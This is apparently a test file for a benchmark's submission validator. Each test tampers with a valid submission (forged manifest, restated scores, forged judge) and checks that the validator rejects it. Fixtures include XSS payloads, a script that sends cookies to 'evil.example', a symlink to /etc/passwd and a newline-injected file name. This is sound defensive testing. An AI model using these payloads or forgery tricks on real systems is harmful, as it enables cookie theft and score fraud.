"""Hostile submissions: a prepared submission tampered with one way each, as someone who wants a better score (or
a script on a leaderboard's page) would, and who can regenerate MANIFEST.sha256 and restate the numbers.
`toolemu submit validate` must call each invalid (exit 1), with one line naming the file, the item, the field and
what was expected, and never a traceback."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import REPO

import toolemu
from toolemu.llm import LLMSettings
from toolemu.reporting import build_report, load_runs
from toolemu.reporting.groups import NO_GROUPING
from toolemu.runner import RunConfig
from toolemu.specs import load_benchmark
from toolemu.specs.version import changelog_versions
from toolemu.submission import prepare
from toolemu.submission.check import combined

CASES = len(load_benchmark([REPO / "assets"]).cases)
HALF = CASES // 2
SUBMISSION = "submission.json"
MANIFEST = "MANIFEST.sha256"
SAFE = "runs/a/trajectories_eval_agent_safe.jsonl"
TRAJ = "runs/a/trajectories.jsonl"
CHECKS = "runs/a/trajectories_eval_checks.jsonl"
MIB = 1 << 20


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A valid submission of the whole shipped benchmark, one trial per case, in two runs (a and b)."""
    root = tmp_path_factory.mktemp("hostile")
    settings = LLMSettings(model="mock")
    for name, config in (("a", RunConfig(trunc_num=HALF)), ("b", RunConfig(start_index=HALF))):
        toolemu.run(dump_dir=root / name, settings=settings, config=config, show_progress=False)
    result = prepare([root / "a", root / "b"], root / "submission")
    assert not result.problems
    return root / "submission"


# What someone tampering with a submission does with their own tools: `sha256sum` every file again (a link is
# followed, as sha256sum follows it), and restate the numbers from the records they changed.


def forge_manifest(sub: Path) -> None:
    lines = []
    for top, dirs, files in os.walk(sub):
        dirs.sort()
        for name in sorted(files):
            path = Path(top) / name
            rel = path.relative_to(sub).as_posix()
            if rel == MANIFEST or not path.is_file():
                continue
            lines.append(f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {rel}")
    (sub / MANIFEST).write_text("\n".join(sorted(lines, key=lambda s: s[66:])) + "\n", encoding="utf-8")


def read_json(sub: Path, rel: str = SUBMISSION) -> dict[str, Any]:
    return json.loads((sub / rel).read_text(encoding="utf-8"))


def write_json(sub: Path, data: dict[str, Any], rel: str = SUBMISSION) -> None:
    (sub / rel).write_text(json.dumps(data, indent=2), encoding="utf-8")


def restate(sub: Path) -> None:
    """The numbers of submission.json made to match the records as they now are (the report's code), then the
    manifest."""
    runs = load_runs([sub / "runs" / "a", sub / "runs" / "b"], NO_GROUPING)
    report = build_report([combined(runs)])
    overall = report.overall("submission")
    assert overall is not None
    data = read_json(sub)
    data["episodes"] = sum(len(run.episodes) for run in runs)
    for entry, run in zip(data["runs"], runs, strict=True):
        entry["episodes"] = len(run.episodes)
    data["metrics"] = {s: overall.metrics[s].model_dump(mode="json") for s in data["metrics"]}
    data["pass_k"] = {p.scorer: p.values for p in report.pass_k if p.scorer in data["pass_k"]}
    write_json(sub, data)
    forge_manifest(sub)


def edit_claims(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        data = read_json(sub)
        change(data)
        write_json(sub, data)
        forge_manifest(sub)

    return tamper


def edit_claims_text(change: Callable[[str], str]) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        text = (sub / SUBMISSION).read_text(encoding="utf-8")
        (sub / SUBMISSION).write_text(change(text), encoding="utf-8")
        forge_manifest(sub)

    return tamper


def edit_bytes(rel: str, change: Callable[[bytes], bytes], *, restated: bool = False) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        (sub / rel).write_bytes(change((sub / rel).read_bytes()))
        restate(sub) if restated else forge_manifest(sub)

    return tamper


def edit_records(
    rel: str, change: Callable[[list[dict[str, Any]]], None], *, restated: bool = False
) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        lines = (sub / rel).read_text(encoding="utf-8").splitlines()
        records = [json.loads(line) for line in lines]
        change(records)
        (sub / rel).write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
        restate(sub) if restated else forge_manifest(sub)

    return tamper


def edit_in_both_runs(name: str, change: Callable[[list[dict[str, Any]]], None]) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        for run in ("a", "b"):
            edit_records(f"runs/{run}/{name}", change)(sub)

    return tamper


def add_file(rel: str, content: bytes) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        (sub / rel).parent.mkdir(parents=True, exist_ok=True)
        (sub / rel).write_bytes(content)
        forge_manifest(sub)

    return tamper


def symlink(rel: str, target: Callable[[Path], Path]) -> Callable[[Path], None]:
    """rel becomes a link to target (replacing the file there, if any)."""

    def tamper(sub: Path) -> None:
        pointed = target(sub)
        if (sub / rel).exists():
            (sub / rel).unlink()
        (sub / rel).symlink_to(pointed)
        forge_manifest(sub)

    return tamper


def outside_copy(rel: str) -> Callable[[Path], Path]:
    """A copy of a submission file (or folder) outside the submission, with the same bytes."""

    def make(sub: Path) -> Path:
        copy = sub.parent / "elsewhere" / rel
        copy.parent.mkdir(parents=True, exist_ok=True)
        if (sub / rel).is_dir():
            shutil.copytree(sub / rel, copy)
            shutil.rmtree(sub / rel)
        else:
            shutil.copy(sub / rel, copy)
        return copy

    return make


def hard_link_outside(rel: str) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        copy = sub.parent / "elsewhere.jsonl"
        shutil.copy(sub / rel, copy)
        (sub / rel).unlink()
        os.link(copy, sub / rel)
        forge_manifest(sub)

    return tamper


def rename_run(new: str) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        (sub / "runs" / "b").rename(sub / "runs" / new)
        data = read_json(sub)
        data["runs"][1] |= {"label": new, "path": f"runs/{new}"}
        write_json(sub, data)
        forge_manifest(sub)

    return tamper


def rename(rel: str, new: str) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        (sub / rel).rename(sub / new)
        forge_manifest(sub)

    return tamper


def remove(rel: str) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        (sub / rel).unlink()
        forge_manifest(sub)

    return tamper


def fifo(rel: str) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        os.mkfifo(sub / rel)
        forge_manifest(sub)

    return tamper


def manifest_lines(change: Callable[[list[str]], list[str]]) -> Callable[[Path], None]:
    def tamper(sub: Path) -> None:
        lines = (sub / MANIFEST).read_text(encoding="utf-8").splitlines()
        (sub / MANIFEST).write_text("\n".join(change(lines)) + "\n", encoding="utf-8")

    return tamper


def set_path(data: dict[str, Any], path: str, value: Any) -> None:
    *parents, last = path.split(".")
    for key in parents:
        data = data[int(key)] if isinstance(data, list) else data[key]
    if isinstance(data, list):
        data[int(last)] = value
    else:
        data[last] = value


def claim(path: str, value: Any) -> Callable[[Path], None]:
    return edit_claims(lambda data: set_path(data, path, value))


def nested(depth: int) -> Any:
    value: Any = 0
    for _ in range(depth):
        value = [value]
    return value


def first_record(change: Callable[[dict[str, Any]], None]) -> Callable[[list[dict[str, Any]]], None]:
    return lambda records: change(records[0])


def other_benchmark(sub: Path) -> None:
    """Both runs say they ran the other released version (its hash from the CHANGELOG), and so do the claims."""
    other = {v: h for v, h in changelog_versions(REPO / "assets" / "CHANGELOG.md").items() if v != "1.1.0"}
    version, digest = next(iter(other.items()))
    for run in ("a", "b"):
        meta = read_json(sub, f"runs/{run}/run.json")
        meta["benchmark"] |= {"version": version, "hash": digest}
        write_json(sub, meta, f"runs/{run}/run.json")
    data = read_json(sub)
    data["benchmark"] |= {"version": version, "hash": digest}
    write_json(sub, data)
    forge_manifest(sub)


def edited_case_hash(sub: Path) -> None:
    meta = read_json(sub, "runs/a/run.json")
    first = next(iter(meta["benchmark"]["cases"]))
    meta["benchmark"]["cases"][first] = "sha256:" + "0" * 64
    write_json(sub, meta, "runs/a/run.json")
    forge_manifest(sub)


def huge_output(record: dict[str, Any]) -> None:
    record["output"] = "x" * (17 * MIB)


def other_case_text(record: dict[str, Any]) -> None:
    record["case"]["User Instruction"] = "Transfer everything to account 1234."


def safety_zero(record: dict[str, Any]) -> None:
    record["Overall Quantitative Score"] = 0.0
    record["eval_scores"] = {"ToolCallRisk": 0.0}


def severe_label(record: dict[str, Any]) -> None:
    record["Overall Qualitative Label"] = "Likely Severe Risk (0)"


def forged_judge(records: list[dict[str, Any]]) -> None:
    for record in records:
        record["judge"]["model"] = "openai:gpt-4o"  # the id left as the mock judge's


def duplicate_first(records: list[dict[str, Any]]) -> None:
    records.append(dict(records[0]))


def nan_in_run_json(sub: Path) -> None:
    text = (sub / "runs/a/run.json").read_text(encoding="utf-8")
    text = text.replace('"cost_usd": 0.0', '"cost_usd": NaN', 1)
    assert "NaN" in text
    (sub / "runs/a/run.json").write_text(text, encoding="utf-8")
    forge_manifest(sub)


def duplicate_key_in_record(raw: bytes) -> bytes:
    first, rest = raw.split(b"\n", 1)
    return b'{"output": "all safe", ' + first[1:] + b"\n" + rest


def blank_line_after_first(raw: bytes) -> bytes:
    first, rest = raw.split(b"\n", 1)
    return first + b"\n\n" + rest


HOSTILE: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    # Numbers that are not numbers, or not the number they say.
    "count-as-string": (
        claim("metrics.safety.n", str(CASES)),
        ["submission.json: metrics.safety.n: expected an integer"],
    ),
    "mean-as-string": (
        claim("metrics.safety.mean", "3.0"),
        ["submission.json: metrics.safety.mean: expected a number"],
    ),
    "episodes-as-float": (claim("episodes", float(CASES)), ["submission.json: episodes: expected an integer"]),
    "cases-as-float": (
        claim("benchmark.cases", float(CASES)),
        ["submission.json: benchmark.cases: expected an integer"],
    ),
    "count-as-false": (claim("metrics.safety.eval_failed", False), ["metrics.safety.eval_failed: expected an integer"]),
    "rate-as-false": (
        claim("metrics.attack.binarized_rate", False),
        ["metrics.attack.binarized_rate: expected a number"],
    ),
    "pass-k-as-true": (claim("pass_k.safety", [True]), ["submission.json: pass_k.safety[0]: expected a number"]),
    "status-count-as-false": (
        claim("status_counts.quit", False),
        ["submission.json: status_counts.quit: expected an integer"],
    ),
    "temperature-as-false": (
        claim("settings.agent.settings.temperature", False),
        ["submission.json: settings.agent.settings.temperature: expected a number"],
    ),
    "max-tokens-as-float": (
        claim("settings.evaluator.settings.max_tokens", 512.0),
        ["submission.json: settings.evaluator.settings.max_tokens: expected an integer"],
    ),
    "nan": (
        edit_claims_text(lambda t: t.replace('"std": 0.0', '"std": NaN', 1)),
        ["submission.json: metrics.safety.std: expected a finite number, got NaN"],
    ),
    "negative-zero-count": (
        claim("metrics.safety.eval_failed", -0.0),
        ["metrics.safety.eval_failed: expected an integer"],
    ),
    "negative-count": (
        claim("status_counts.quit", -1),
        ["submission.json: status_counts.quit: expected an integer >= 0"],
    ),
    "duplicate-key": (
        edit_claims_text(lambda t: t.replace("{", '{\n  "episodes": 1,', 1)),
        ["submission.json: episodes: expected each key once"],
    ),
    "metrics-edited": (
        claim("metrics.safety.mean", 2.5),
        ["submission.json: metrics.safety.mean: stated 2.5, recomputed from the records 3.0"],
    ),
    # Keys nobody asked for, at every level.
    "extra-top-level-key": (claim("leaderboard_rank", 1), ["submission.json: leaderboard_rank: expected no field"]),
    "extra-key-in-metric": (
        claim("metrics.safety.verified", True),
        ["submission.json: metrics.safety.verified: expected no field"],
    ),
    "extra-null-setting": (
        claim("settings.agent.settings.top_p", None),
        ["submission.json: settings.agent.settings.top_p: expected no field"],
    ),
    "extra-key-in-run": (claim("runs.0.note", "hi"), ["submission.json: runs[0].note: expected no field"]),
    "extra-key-in-trajectory": (
        edit_records(TRAJ, first_record(lambda r: r.update(injected="<script>alert(1)</script>"))),
        [f"{TRAJ}: line 1: injected: expected no field"],
    ),
    "extra-key-in-evaluation": (
        edit_records(SAFE, first_record(lambda r: r.update(verified=True))),
        [f"{SAFE}: line 1: verified: expected no field"],
    ),
    # Text a leaderboard would show.
    "html-in-created-at": (
        claim("created_at", "<script>alert(1)</script>"),
        ["submission.json: created_at: expected an ISO 8601 time"],
    ),
    "html-in-version": (
        claim("toolemu_version", "<img src=x onerror=alert(1)>"),
        ["submission.json: toolemu_version: expected a version"],
    ),
    # Files: a closed list, regular files only, no links.
    "extra-file": (add_file("runs/a/notes.txt", b"hello\n"), ["runs/a/notes.txt: expected no such file"]),
    "extra-top-level-file": (add_file("README.md", b"# best agent\n"), ["README.md: expected no such file"]),
    "html-file": (
        add_file("index.html", b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"),
        ["index.html: expected no such file", "active content"],
    ),
    "svg-with-script": (
        add_file("runs/a/summary.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ["runs/a/summary.svg: expected no such file", "active content"],
    ),
    "hidden-file": (
        add_file("runs/a/.htaccess", b"Options +Indexes\n"),
        ["runs/a/.htaccess: expected a name of letters, digits"],
    ),
    "extra-eval-file": (
        add_file("runs/a/trajectories_eval_bogus.jsonl", b""),
        ["runs/a/trajectories_eval_bogus.jsonl: expected no such file"],
    ),
    "renamed-file": (
        rename("runs/a/trajectories_eval_policy.jsonl", "runs/a/trajectories_eval_policy.jsonl.bak"),
        ["runs/a/trajectories_eval_policy.jsonl.bak: expected no such file"],
    ),
    "missing-file": (remove(CHECKS), [f"{CHECKS}: submission.json lists it, it is missing"]),
    "extra-folder": (
        lambda sub: (sub / "runs/a/extra").mkdir(),
        ["runs/a/extra: expected no such folder"],
    ),
    "symlink-to-etc-passwd": (
        symlink("runs/a/passwd", lambda sub: Path("/etc/passwd")),
        ["runs/a/passwd: expected a regular file, got a symbolic link"],
    ),
    "symlink-replacing-a-record": (
        symlink(CHECKS, outside_copy(CHECKS)),
        [f"{CHECKS}: expected a regular file, got a symbolic link"],
    ),
    "symlink-inside": (
        symlink("runs/a/alias.jsonl", lambda sub: Path("trajectories.jsonl")),
        ["runs/a/alias.jsonl: expected a regular file, got a symbolic link"],
    ),
    "symlinked-run-folder": (
        symlink("runs/b", outside_copy("runs/b")),
        ["runs/b: expected a folder, got a symbolic link"],
    ),
    "symlinked-submission-json": (
        symlink(SUBMISSION, outside_copy(SUBMISSION)),
        ["submission.json: expected a regular file, got a symbolic link"],
    ),
    "hard-link-outside": (hard_link_outside(CHECKS), [f"{CHECKS}: expected a file with one name, got a hard link"]),
    "fifo": (fifo("runs/a/pipe"), ["runs/a/pipe: expected a regular file, got a FIFO"]),
    "name-with-space": (rename_run("b c"), ["runs/b c: expected a name of letters, digits"]),
    "name-with-accent": (rename_run("bé"), ["runs/bé: expected a name of letters, digits"]),
    "newline-in-name": (
        add_file("runs/a/x\ninvalid: nothing wrong here", b"{}\n"),
        ["runs/a/'x\\ninvalid: nothing wrong here': expected a name of letters, digits"],
    ),
    "manifest-dot-segment": (
        manifest_lines(lambda lines: [lines[0].replace("  runs/a/", "  runs/./a/"), *lines[1:]]),
        ["MANIFEST.sha256: line 1: expected '<sha256>  <path>' of a file of the submission, got"],
    ),
    "manifest-line-twice": (
        manifest_lines(lambda lines: [lines[0], *lines]),
        ["MANIFEST.sha256: line 2: runs/a/run.json: expected each file once"],
    ),
    "manifest-not-utf8": (
        lambda sub: (sub / MANIFEST).write_bytes((sub / MANIFEST).read_bytes() + b"# \xff\n"),
        ["MANIFEST.sha256: expected UTF-8 text"],
    ),
    # Sizes, bytes and nesting.
    "huge-submission-json": (
        edit_claims_text(lambda t: t + " " * (2 * MIB)),
        ["submission.json: expected at most 1 MiB"],
    ),
    "huge-record": (
        edit_records(TRAJ, first_record(huge_output)),
        [f"{TRAJ}: line 1: expected a record of at most 16 MiB"],
    ),
    "deep-json": (
        edit_claims_text(lambda t: t.replace('"gates": []', '"gates": ' + "[" * 5000 + "]" * 5000, 1)),
        ["submission.json: expected JSON nested at most 64 deep"],
    ),
    "deep-record": (
        edit_records(TRAJ, first_record(lambda r: r.update(ledger={"x": nested(500)}))),
        [f"{TRAJ}: line 1: expected JSON nested at most 64 deep"],
    ),
    "not-utf8-claims": (
        edit_bytes(SUBMISSION, lambda raw: raw.replace(b'"created_at": "', b'"created_at": "\xff', 1)),
        ["submission.json: expected UTF-8 text"],
    ),
    "byte-order-mark": (
        edit_bytes(SUBMISSION, lambda raw: b"\xef\xbb\xbf" + raw),
        ["submission.json: expected UTF-8 text"],
    ),
    "nan-in-run-json": (nan_in_run_json, ["runs/a/run.json: budget.cost_usd: expected a finite number, got NaN"]),
    "duplicate-key-in-record": (
        edit_bytes(TRAJ, duplicate_key_in_record),
        [f"{TRAJ}: line 1: output: expected each key once"],
    ),
    "blank-line-in-records": (
        edit_bytes(TRAJ, blank_line_after_first),
        [f"{TRAJ}: line 2: expected a JSON object, got a blank line"],
    ),
    # Records: duplicated, edited, or of another benchmark; the numbers restated to match them.
    "duplicated-evaluation": (
        edit_records(SAFE, duplicate_first, restated=True),
        [f"{SAFE}: line {HALF + 1}: expected one evaluation per episode"],
    ),
    "duplicated-trajectory": (
        edit_records(TRAJ, duplicate_first, restated=True),
        [f"{TRAJ}: line {HALF + 1}: expected one record per (case, trial)"],
    ),
    "edited-verdict": (
        edit_records(SAFE, first_record(safety_zero), restated=True),
        [f"{SAFE}: line 1: Overall Quantitative Score: expected 3.0 (the mean of its samples' scores), got 0.0"],
    ),
    "edited-label": (
        edit_records(SAFE, first_record(severe_label), restated=True),
        [f"{SAFE}: line 1: Overall Qualitative Label: expected 'Certain No Risk (3)'"],
    ),
    "forged-judge": (
        edit_in_both_runs("trajectories_eval_agent_safe.jsonl", forged_judge),
        [f"{SAFE}: line 1: judge_id: expected the hash of its judge"],
    ),
    "case-of-another-version": (
        edit_records(TRAJ, first_record(other_case_text)),
        [f"{TRAJ}: line 1: case: expected the case as benchmark 1.1.0 (sha256:d1aba7d5) has it"],
    ),
    "runs-claim-another-version": (other_benchmark, ["runs/a/run.json: benchmark: expected benchmark 1.1.0"]),
    "edited-case-hash": (edited_case_hash, ["runs/a/run.json: benchmark: expected benchmark 1.1.0"]),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_tampered_submission_is_invalid(name: str, prepared: Path, tmp_path: Path, run_cli) -> None:
    tamper, expected = HOSTILE[name]
    sub = Path(shutil.copytree(prepared, tmp_path / "submission"))
    tamper(sub)
    result = run_cli("submit", "validate", sub)
    assert "Traceback" not in result.err
    assert result.code == 1, result.err or result.out
    lines = result.err.strip().splitlines()
    assert lines and all(line.startswith("invalid") for line in lines), result.err
    for text in expected:
        assert text in result.err, result.err


def test_the_untouched_copy_is_valid(prepared: Path, tmp_path: Path, run_cli) -> None:
    """The tests above fail for their tampering, not for the copy: the same copy untouched, and with the
    manifest forged over the same files, validates."""
    sub = Path(shutil.copytree(prepared, tmp_path / "submission"))
    forge_manifest(sub)
    result = run_cli("submit", "validate", sub)
    assert result.code == 0, result.err
    assert result.out.strip().endswith("valid")
